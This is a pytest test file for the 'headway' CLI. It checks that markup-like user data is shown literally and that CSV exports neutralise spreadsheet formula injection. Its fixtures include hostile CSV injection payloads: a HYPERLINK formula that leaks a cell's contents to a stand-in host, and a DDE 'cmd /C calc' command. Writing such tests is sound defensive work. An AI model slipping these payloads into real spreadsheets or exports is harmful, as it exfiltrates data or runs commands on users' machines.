"""``headway``'s output carries user data as data: a batch id, tenant, tag value, template
name or file name that looks like rich markup (``[/x]``, ``[red]``) is printed as written —
never parsed as markup, which crashed the command (MarkupError) or swallowed the text — and
a CSV the CLI writes never holds a cell a spreadsheet would run as a formula (OWASP CSV
injection: a cell starting with = + - @ TAB or CR is prefixed with a single quote)."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from broker.admin import create_topics
from broker.config import development_config
from broker.settings import Settings
from tests.helpers import point_cli_at
from tests.hostile.ledger_rows import Done, store_finished
from workers.cli import support
from workers.cli.main import app, main
from workers.cli.support import csv_cell
from workers.cli.top import Snapshot, render

MARKUP = "[/x]"
FORMULAS = {
    "f1": '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "f2": "+1+cmd|' /C calc'!A0",
    "f3": "-2+3",
    "f4": "@SUM(1,1)",
    "f5": "\tTAB=1",
    "f6": "\r=1",
}


def invoke(*args: str) -> str:
    ran = CliRunner().invoke(app, list(args))
    assert ran.exit_code == 0, (ran.output, ran.exception)
    return ran.output


async def cli(*args: str) -> str:
    """A command run as from a shell (its own event loop, in a thread)."""
    return await asyncio.to_thread(invoke, *args)


@pytest.fixture
def cli_ledger(database_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("HEADWAY_DATABASE_URL", database_url)
    wide(monkeypatch)
    return database_url


def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """Tables and messages wide enough to show each cell whole (the CLI's consoles are made
    when it is imported, so COLUMNS set later would not reach them)."""
    for console in (support.console, support.err):
        monkeypatch.setattr(console, "_width", 250)


async def test_markup_in_a_batch_id_is_printed_as_written_by_status_usage_and_audit(
    cli_ledger: str,
) -> None:
    jobs = [Done("acme", "j1", MARKUP, tags={"project": "[bold]p[/bold]"})]
    jobs.append(Done("acme", "j2", "[red]b", tags={"project": "plain"}))
    await store_finished(cli_ledger, jobs)

    status = await cli("status", "--batch", MARKUP, "--tenant", "acme", "--no-lanes")
    assert f"batch {MARKUP}: 1/1 finished" in status
    by_batch = await cli("usage", "--by", "batch", "--tenant", "acme")
    assert MARKUP in by_batch and "[red]b" in by_batch
    by_tag = await cli("usage", "--by", "tag:project", "--tenant", "acme")
    assert "[bold]p[/bold]" in by_tag
    trail = await cli("audit", "--tenant", "acme")
    assert MARKUP in trail and "[red]b" in trail


async def test_usage_csv_cells_that_a_spreadsheet_would_run_are_quoted(cli_ledger: str) -> None:
    jobs = [Done("acme", job, "b", tags={"project": value}) for job, value in FORMULAS.items()]
    jobs.append(Done("acme", "safe", "b", tags={"project": "search"}))
    await store_finished(cli_ledger, jobs)

    out = await cli("usage", "--by", "tag:project", "--tenant", "acme", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    header = ["tenant", "tag:project", "events", "input_tokens", "output_tokens", "cost_usd"]
    assert rows[0] == header
    groups = sorted(row[1] for row in rows[1:])
    assert groups == sorted(["search", *("'" + value for value in FORMULAS.values())])
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert float(row[5]) == pytest.approx(0.01)  # numbers stay numbers


def test_every_formula_prefix_is_neutralised_and_nothing_else_is() -> None:
    for value in FORMULAS.values():
        assert csv_cell(value) == "'" + value
    assert [csv_cell(v) for v in ("search", "", "a=b", 3, -1.5, None)] == [
        "search", "", "a=b", 3, -1.5, None,
    ]  # fmt: skip


def test_markup_in_an_error_and_a_file_name_is_printed_as_written(
    sqlite_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("HEADWAY_DATABASE_URL", sqlite_url)
    wide(monkeypatch)
    with pytest.raises(SystemExit) as ended:
        main(["templates", "show", MARKUP])
    assert ended.value.code == 2
    assert f"no template named '{MARKUP}'" in capsys.readouterr().err

    bad = tmp_path / "[red]jobs.jsonl"
    bad.write_text('{"job_id": "[/x]"}\n')
    with pytest.raises(SystemExit) as ended:
        main(["submit", str(bad)])
    assert ended.value.code == 2
    assert "[red]jobs.jsonl" in capsys.readouterr().err


async def test_cancel_and_budget_set_echo_a_markup_batch_id_as_written(
    make_settings: Callable[..., Settings], sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = make_settings(database_url=sqlite_url)
    await create_topics(settings, development_config("http://127.0.0.1:9"))
    point_cli_at(settings, monkeypatch)
    cancel = await cli("cancel", "--tenant", "demo", "--batch", MARKUP)
    assert f'"batch_id":"{MARKUP}"' in cancel
    budget = await cli("budget", "set", "--tenant", "demo", "--batch", MARKUP, "--usd", "1")
    assert f'"batch_id":"{MARKUP}"' in budget


def test_headway_top_shows_label_values_as_written() -> None:
    snapshot = Snapshot(workers=1)
    snapshot.add(
        'headway_jobs_total{status="succeeded",tenant="[/x]",route="[red]r"} 3.0\n'
        'headway_cost_usd_total{tenant="[/x]",route="[red]r"} 0.5\n'
    )
    screen = Console(record=True, width=200, file=io.StringIO())
    screen.print(render(snapshot, None))
    shown = screen.export_text()
    assert "[/x]" in shown and "[red]r" in shown
